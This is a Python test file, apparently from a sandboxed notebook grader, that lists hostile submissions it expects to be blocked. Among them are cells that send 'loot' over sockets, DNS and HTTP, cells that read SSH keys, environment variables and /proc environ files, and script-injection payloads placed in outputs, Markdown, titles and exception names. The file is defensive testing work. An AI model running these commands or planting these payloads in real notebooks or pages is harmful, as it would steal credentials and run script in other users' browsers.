"""Exfiltration: secrets out of the machine, or scripts into the pages that others open."""

from __future__ import annotations

import os
from pathlib import Path

import nbformat
from nbformat.notebooknode import NotebookNode

from tests.hostile.submission import HONEST, WITHOUT_KL, Hostile, Place, cell, in_kl, kl, notebook

REFUSED = "Permission denied|not permitted|Address family|No such file|Errno|Error"


def _sends(name: str, about: str, *lines: str) -> Hostile:
    return Hostile(f"sends-{name}", about, HONEST, cell("import socket, os", *lines), REFUSED)


NETWORK = (
    _sends("tcp", "a connection to a listener",
        "s = socket.create_connection(('127.0.0.1', {PORT}), timeout=2)", "s.send(b'loot')"),
    _sends("udp", "a datagram to a listener",
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)",
        "s.sendto(b'loot', ('127.0.0.1', {PORT}))"),
    _sends("ipv6", "the same by IPv6", "s = socket.socket(socket.AF_INET6)",
        "s.connect(('::1', {PORT}))"),
    _sends("dns", "a secret as a name to look up", "socket.getaddrinfo('loot.example.org', 80)"),
    _sends("http", "a request to a web server", "import urllib.request",
        "urllib.request.urlopen('http://127.0.0.1:{PORT}/loot', timeout=2)"),
    _sends("unix", "a unix socket", "s = socket.socket(socket.AF_UNIX)", "s.connect('{SOCKET}')"),
    _sends("abstract", "a socket without a file", "s = socket.socket(socket.AF_UNIX)",
        "s.connect(b'\\0vae-{PORT}')"),
    _sends("listens", "waits for somebody outside", "s = socket.socket()",
        "s.bind(('0.0.0.0', 0))"),
    Hostile("sends-from-kl", "a connection while it is judged", WITHOUT_KL, in_kl(
        "import socket; socket.create_connection(('127.0.0.1', {PORT}), timeout=2)"), REFUSED),
)  # fmt: skip


def _looks(name: str, about: str, *lines: str) -> Hostile:
    return Hostile(f"looks-{name}", about, HONEST, cell("import os, glob", *lines))


def _linked(folder: Path) -> None:
    cell("print(os.listdir('.'))")(folder)
    os.symlink("{HOME}/.ssh", folder / "keys")


SECRETS = (
    _looks("home", "keys in the home folder",
        "for p in glob.glob('{HOME}/.*/*') + ['{HOME}/.ssh/id']: print(open(p).read())"),
    _looks("environment", "secrets in the environment", "print(dict(os.environ))"),
    _looks("parent-environment", "the same of other processes", "for n in range(1, 9999):",
        "    try: print(open(f'/proc/{n}/environ').read())", "    except OSError: pass"),
    _looks("parent-maps", "addresses of the judge",
        "print(open(f'/proc/{os.getppid()}/maps').read())"),
    _looks("link", "a link in the scratch folder", "os.symlink('{HOME}/.ssh/id', 'x')",
        "print(open('x').read())"),
    _looks("tmp", "what others left in /tmp", "print(os.listdir('/tmp'))"),
    _looks("shared-memory", "shared memory", "print(os.listdir('/dev/shm'))"),
    Hostile("looks-beside", "a link to secrets beside the notebook", HONEST, _linked),
)  # fmt: skip

_IMG = "<img src=x onerror=pwned()>"


def _shows(name: str, about: str, *lines: str) -> Hostile:
    return Hostile(f"shows-{name}", about, HONEST, cell("from IPython.display import *", *lines))


def _markdown(text: str) -> Place:
    return notebook(lambda made: made.cells.insert(0, nbformat.v4.new_markdown_cell(text)))


def _attachment(made: NotebookNode) -> None:
    one = nbformat.v4.new_markdown_cell("![x](attachment:x.svg)")
    one["attachments"] = {"x.svg": {"image/svg+xml": "<svg onload=pwned()></svg>"}}
    made.cells.insert(0, one)


PAGES = (
    _shows("html", "a script in an output", f"display(HTML('<script>pwned()</script>{_IMG}'))"),
    _shows("javascript", "JavaScript as an output", "display(Javascript('pwned()'))"),
    _shows("svg", "a script in a picture",
        "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"pwned()\"></svg>'))"),
    _shows("frame", "a frame with a page of its own",
        "display(IFrame('javascript:pwned()', 9, 9))"),
    _shows("latex", "a link in a formula",
        "display(Latex(r'$\\href{javascript:pwned()}{x}$'))"),
    _shows("markdown", "HTML in a Markdown output", f"display(Markdown('{_IMG}'))"),
    _shows("print", "HTML as printed text", f"print('</pre>{_IMG}')"),
    _shows("ansi", "escape codes with HTML in them",
        f"print('\\x1b]8;;javascript:pwned()\\x07{_IMG}')"),
    _shows("mime", "an unknown kind of output",
        f"display({{'text/html': '{_IMG}', 'application/vnd.x+json': {{'a': 1}}}}, raw=True)"),
    _shows("png", "a picture that is HTML",
        f"display({{'image/png': '\\\">{_IMG}'}}, raw=True)"),
    _shows("widget", "a widget", "display({'application/vnd.jupyter.widget-view+json':",
        f"    {{'model_id': '{_IMG}'}}}}, raw=True)"),
    Hostile("shows-markdown-cell", "a script in a Markdown cell", HONEST,
        _markdown(f"<script>pwned()</script>\n\n{_IMG} [x](javascript:pwned())")),
    Hostile("shows-attachment", "a script in an attachment", HONEST, notebook(_attachment)),
    Hostile("shows-title", "a script in the notebook's title", HONEST, notebook(
        lambda made: made.metadata.update(title=f"</title>{_IMG}", authors=[{"name": _IMG}]))),
    Hostile("shows-error", "HTML as the text of an exception", WITHOUT_KL,
        kl(f"raise ValueError('{_IMG}')"), "ValueError"),
    Hostile("shows-name", "HTML as the name of an exception", WITHOUT_KL, kl(
        f"raise type('{_IMG}', (Exception,), {{}})('x')"), "img"),
    Hostile("shows-source", "HTML in the source of a solution", WITHOUT_KL, kl(
        f"'''</pre><script>pwned()</script>{_IMG}'''", "return mu.sum(-1)")),
    Hostile("shows-file-name", "HTML as a file's name", HONEST, cell(
        f"open({_IMG!r}, 'w')", "1 / 0"), "ZeroDivisionError"),
)  # fmt: skip

EXFILTRATION = (*NETWORK, *SECRETS, *PAGES)
